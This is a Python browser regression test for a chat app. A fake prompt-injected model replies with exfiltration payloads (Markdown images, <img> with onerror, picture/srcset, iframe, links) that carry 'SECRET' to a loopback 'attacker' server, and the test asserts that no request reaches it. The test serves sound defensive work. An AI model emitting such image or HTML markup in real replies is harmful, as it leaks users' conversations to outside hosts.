"""Untrusted replies in a real browser: nothing a reply holds may make the page fetch a URL.

The app (`app.build_app`) runs in this process over fake engines; the fake model answers
with the payloads a prompt-injected model would write to leak the conversation (a Markdown
image whose URL carries it, raw `<img>` HTML...), pointing at an "attacker" server on
loopback that counts the requests it gets. Headless Chromium (Debian's `/usr/bin/chromium`)
renders the chat. Select with `pytest -k browser`.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.fakes import FakeLLM, fake_models
from voice_agent.core.config import get_settings
from voice_agent.pipeline.agent import Agent
from voice_agent.testing.server import LiveServer, free_port
from voice_agent.tools import Toolbox
from voice_agent.tools.toolbox import builtin_tools
from voice_agent.ui.blocks import build_ui

REPO = Path(__file__).resolve().parents[1]
CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = REPO / "test-artifacts"


class Attacker(http.server.ThreadingHTTPServer):
    """Counts every request (a leak) and answers with a 1x1 GIF."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                outer.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", free_port()), Handler)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()


def payload(base: str) -> str:
    return (
        "Here you go. "
        f"![chart]({base}/md?q=SECRET) "
        f'<img src="{base}/html?q=SECRET" onerror="this.src=\'{base}/onerror\'"> '
        f"<picture><source srcset='{base}/srcset'></picture> "
        f"![ref][r]\n\n[r]: {base}/ref\n\n"
        f'<a href="{base}/link">click</a> '
        f"<iframe src='{base}/iframe'></iframe> "
        "**still bold**"
    )


@pytest.mark.browser
def test_no_reply_can_make_the_page_fetch_anything(attacker: Attacker) -> None:
    """Regression: `<img src=x ...>` in a reply became an <img> in the chat (Gradio's sanitizer
    strips handlers, not images), and `![](http://host/?q=...)` would have been fetched."""
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} is missing: `apt-get install chromium` (CI installs it)")
    from playwright.sync_api import expect, sync_playwright

    sys_path = str(REPO)
    import sys

    if sys_path not in sys.path:
        sys.path.insert(0, sys_path)
    import app as app_module

    base = f"http://127.0.0.1:{attacker.server_address[1]}"
    call = json.dumps({"name": "calculate", "arguments": {"expression": "6*7"}})
    llm = FakeLLM(script=[f"<tool_call>\n{call}\n</tool_call>", payload(base)])
    models = fake_models(llm=llm)
    agent = Agent(models, tools=Toolbox(builtin_tools()))
    demo = build_ui(lambda: agent, models, pause_default=0.6, stream_audio=False)
    get_settings.cache_clear()
    with LiveServer(app_module.build_app(models, get_settings(), demo), lifespan=True) as live:
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"]
            )
            try:
                page = browser.new_page()
                page.set_default_timeout(60_000)
                page.goto(live.url, wait_until="domcontentloaded")
                box = page.locator("#message textarea")
                box.fill(f"Show me ![me]({base}/user-typed)")
                box.press("Enter")
                chat = page.locator("#chat")
                expect(chat).to_contain_text("still bold")
                expect(chat.locator(".turn-latency")).to_have_count(1)  # the reply is final
                page.wait_for_timeout(1500)  # room for any fetch to happen
                ARTIFACTS.mkdir(exist_ok=True)
                page.screenshot(path=ARTIFACTS / "untrusted-reply.png", full_page=True)
                html = chat.inner_html()
                assert attacker.hits == [], attacker.hits
                for tag in ("<img", "<picture", "<iframe", "<source"):
                    assert base not in html or tag not in html.split(base)[0][-200:], tag
                assert chat.locator(f"img[src^='{base}'], iframe, picture, source").count() == 0
                assert chat.locator(f"a[href^='{base}']").count() == 0
                expect(chat.locator("strong", has_text="still bold")).to_have_count(1)
                # The tool call is there, folded: its title shows, its result does not.
                expect(chat).to_contain_text("calculate")
                assert not page.get_by_text('"result": 42').is_visible()
            finally:
                browser.close()
